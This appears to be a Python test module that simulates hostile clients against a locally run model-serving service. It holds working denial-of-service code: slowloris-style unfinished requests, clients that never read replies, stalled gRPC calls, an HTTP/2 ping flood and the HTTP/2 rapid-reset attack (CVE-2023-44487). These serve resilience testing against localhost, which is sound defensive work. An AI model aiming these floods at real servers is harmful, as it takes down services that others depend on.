"""What a hostile client does, each as a block of time during which it goes on."""

from __future__ import annotations

import contextlib
import socket
import struct
import threading
from collections.abc import Callable, Iterator
from typing import Any

import grpc

from tests.service import Service

Attack = Callable[[Service], contextlib.AbstractContextManager[list[socket.socket]]]

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + bytes([0, 0, 0, 4, 0, 0, 0, 0, 0])


def connect(port: int) -> socket.socket:
    """A connection whose `recv` gives up after a while."""
    return socket.create_connection(("127.0.0.1", port), timeout=15)


@contextlib.contextmanager
def sending(port: int, content: bytes, connections: int) -> Iterator[list[socket.socket]]:
    """Connections that send something and then say nothing more."""
    with contextlib.ExitStack() as stack:
        made = []
        for _ in range(connections):
            connection = stack.enter_context(connect(port))
            with contextlib.suppress(OSError):
                connection.sendall(content)
            made.append(connection)
        yield made


def silent(service: Service) -> contextlib.AbstractContextManager[list[socket.socket]]:
    """Connections to REST that say nothing."""
    return sending(service.http, b"", 300)


def silent_to_metrics(service: Service) -> contextlib.AbstractContextManager[list[socket.socket]]:
    """Connections to the metrics port that say nothing."""
    return sending(service.metrics, b"", 50)


def half_headers(service: Service) -> contextlib.AbstractContextManager[list[socket.socket]]:
    """Requests whose headers do not end."""
    return sending(service.http, b"POST /predict HTTP/1.1\r\nHost: a\r\nX-", 200)


def half_bodies(service: Service) -> contextlib.AbstractContextManager[list[socket.socket]]:
    """Requests whose body does not end."""
    return sending(service.http, posting(b'{"strData":', length=100), 200)


@contextlib.contextmanager
def not_reading(service: Service) -> Iterator[list[socket.socket]]:
    """Requests in a row on each connection, and no answer is read."""
    with contextlib.ExitStack() as stack:
        made = []
        for _ in range(96):
            connection = stack.enter_context(socket.socket())
            connection.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
            connection.connect(("127.0.0.1", service.http))
            connection.setblocking(False)
            with contextlib.suppress(BlockingIOError):
                connection.sendall(b"GET /seldon.json HTTP/1.1\r\nHost: a\r\n\r\n" * 2000)
            made.append(connection)
        yield made


def silent_to_grpc(service: Service) -> contextlib.AbstractContextManager[list[socket.socket]]:
    """Connections to gRPC that do not speak HTTP/2."""
    return sending(service.grpc, b"", 200)


def idle_on_grpc(service: Service) -> contextlib.AbstractContextManager[list[socket.socket]]:
    """Connections to gRPC that make no call."""
    return sending(service.grpc, PREFACE, 200)


@contextlib.contextmanager
def calls_without_message(service: Service) -> Iterator[list[socket.socket]]:
    """gRPC calls whose message does not come."""
    over = threading.Event()

    def nothing() -> Iterator[bytes]:
        over.wait(60)
        yield from ()

    with grpc.insecure_channel(f"127.0.0.1:{service.grpc}") as channel:
        call: Any = channel.stream_unary("/seldon.protos.Seldon/Predict", bytes, bytes)
        running = [call.future(nothing()) for _ in range(100)]
        try:
            yield []
        finally:
            over.set()
            for one in running:
                one.cancel()


@contextlib.contextmanager
def flood(service: Service, frames: bytes) -> Iterator[list[socket.socket]]:
    """The same frames to gRPC over and over, on a new connection when one has ended."""
    over = threading.Event()

    def send() -> None:
        while not over.wait(0.05):
            with contextlib.suppress(OSError), connect(service.grpc) as connection:
                connection.sendall(PREFACE)
                for _ in range(20):
                    connection.sendall(frames * 50)

    threads = [threading.Thread(target=send, daemon=True) for _ in range(2)]
    for thread in threads:
        thread.start()
    try:
        yield []
    finally:
        over.set()
        for thread in threads:
            thread.join()


def pings(service: Service) -> contextlib.AbstractContextManager[list[socket.socket]]:
    """HTTP/2 pings without end."""
    return flood(service, bytes([0, 0, 8, 6, 0, 0, 0, 0, 0]) + bytes(8))


def resets(service: Service) -> contextlib.AbstractContextManager[list[socket.socket]]:
    """Streams that are opened and reset at once (CVE-2023-44487)."""
    headers = bytes([0x82, 0x86, 0x84])  # GET, http, /
    frames = b"".join(
        frame(1, 4, stream, headers) + frame(3, 0, stream, struct.pack(">I", 8))
        for stream in range(1, 99, 2)
    )
    return flood(service, frames)


def frame(kind: int, flags: int, stream: int, content: bytes) -> bytes:
    """A frame of HTTP/2."""
    length = struct.pack(">I", len(content))[1:]
    return length + bytes([kind, flags]) + struct.pack(">I", stream) + content


def posting(body: bytes, length: int | None = None, path: str = "/predict", **more: str) -> bytes:
    """A POST as it goes over the wire.

    Args:
        body: what is sent of the body.
        length: what Content-Length says, by default the truth.
        path: where to.
        more: further headers, with underscores for dashes.
    """
    headers = {
        "Host": "a", "Content-Type": "application/json",
        "Content-Length": str(len(body) if length is None else length),
        **{name.replace("_", "-"): value for name, value in more.items()},
    }  # fmt: skip
    lines = [f"POST {path} HTTP/1.1", *(f"{name}: {value}" for name, value in headers.items())]
    return "\r\n".join(lines).encode() + b"\r\n\r\n" + body
